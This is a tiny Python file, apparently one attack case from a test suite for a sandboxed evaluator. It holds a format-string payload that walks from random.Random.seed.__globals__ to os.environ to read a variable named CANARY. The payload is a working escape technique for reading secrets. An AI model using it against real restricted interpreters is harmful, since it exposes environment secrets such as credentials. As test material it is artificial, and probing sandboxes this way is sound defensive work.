"""P1: a format string's fields walk to a module's globals."""


def attack(door):
    door.run("import random")
    door.value("'{0.Random.seed.__globals__[_os].environ[CANARY]}'.format(random)")
